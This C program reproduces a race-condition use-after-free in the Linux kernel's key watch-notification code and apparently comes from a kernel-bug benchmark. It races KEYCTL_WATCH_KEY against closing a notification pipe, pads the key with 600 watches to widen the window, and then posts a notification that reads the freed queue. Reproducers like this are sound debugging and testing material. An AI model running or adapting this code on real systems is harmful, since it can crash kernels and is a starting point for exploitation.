// Reproducer for "KASAN: use-after-free Read in __post_watch_notification".
//
// keyctl_watch_key() takes a reference on the pipe's watch queue, drops the
// fd, then calls add_watch_to_object(). The buggy add_watch_to_object() puts
// the watch on the key's watch list even when the queue has meanwhile been
// torn down (lock_wqueue() fails because the pipe is gone): the watch is on
// no queue's list, so watch_queue_clear() never removes it, and it keeps
// pointing at the queue, which is freed once the syscall drops its reference.
// The next notification on the key walks the list and reads the freed queue.
//
// This is a race between two CPUs: thread A calls KEYCTL_WATCH_KEY on a
// notification pipe while thread B closes that pipe's last fd. B's close must
// land after A's fdput() and before A's lock_wqueue(). To widen A's window,
// the key first gets 600 watches from other (long-lived) pipes: the buggy
// code walks the whole list before it looks at the queue. B starts its close
// after a delay swept over a range each round. On one CPU the window cannot
// be hit (PREEMPT_NONE: A is not preempted inside the syscall).
// Every 16 rounds the key is updated, which posts a notification.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define O_NOTIFICATION_PIPE O_EXCL
#define IOC_WATCH_QUEUE_SET_SIZE _IO('W', 0x60)
#define KEYCTL_UPDATE 2
#define KEYCTL_WATCH_KEY 32
#define KEY_SPEC_PROCESS_KEYRING -2
#define LONG_LIVED 600

static atomic_int b_go, b_done;
static int victim_fd;
static int delay_spins;

static long add_key(const char *type, const char *desc, const void *p, size_t n, int ring)
{
	return syscall(__NR_add_key, type, desc, p, n, ring);
}

static long keyctl(int cmd, long a, long b, long c)
{
	return syscall(__NR_keyctl, cmd, a, b, c, 0);
}

static int notification_pipe(void)
{
	int fds[2];

	if (pipe2(fds, O_NOTIFICATION_PIPE) < 0) {
		perror("pipe2(O_NOTIFICATION_PIPE)");
		exit(1);
	}
	if (ioctl(fds[0], IOC_WATCH_QUEUE_SET_SIZE, 1) < 0) {
		perror("IOC_WATCH_QUEUE_SET_SIZE");
		exit(1);
	}
	close(fds[1]);
	return fds[0];
}

static void *closer(void *arg)
{
	int seen = 0;

	(void)arg;
	for (;;) {
		while (atomic_load(&b_go) == seen)
			;
		seen = atomic_load(&b_go);
		for (volatile int i = 0; i < delay_spins; i++)
			;
		close(victim_fd);
		atomic_store(&b_done, seen);
	}
	return NULL;
}

int main(void)
{
	struct rlimit rl = {8192, 8192};
	pthread_t b;
	long key;

	setrlimit(RLIMIT_NOFILE, &rl);
	key = add_key("user", "kgym-watched", "x", 1, KEY_SPEC_PROCESS_KEYRING);
	if (key < 0) {
		perror("add_key");
		return 1;
	}
	for (int i = 0; i < LONG_LIVED; i++) {
		int fd = notification_pipe();

		if (keyctl(KEYCTL_WATCH_KEY, key, fd, 1) < 0) {
			perror("KEYCTL_WATCH_KEY (long-lived)");
			return 1;
		}
	}
	pthread_create(&b, NULL, closer, NULL);

	time_t end = time(NULL) + 45;
	int won_maybe = 0, ebadf = 0;

	for (int r = 1; time(NULL) < end; r++) {
		victim_fd = notification_pipe();
		delay_spins = (r * 37) % 4000;
		atomic_store(&b_go, r);
		long ret = keyctl(KEYCTL_WATCH_KEY, key, victim_fd, 2);

		if (ret == 0)
			won_maybe++;
		else if (errno == EBADF)
			ebadf++;
		while (atomic_load(&b_done) != r)
			;
		if (r % 16 == 0) {
			usleep(20000); /* an RCU grace period: the queue is really freed */
			keyctl(KEYCTL_UPDATE, key, (long)"y", 1);
		}
		if (r % 1000 == 0)
			printf("round %d: watch added %d, EBADF %d\n", r, won_maybe, ebadf);
	}
	printf("no crash\n");
	return 0;
}
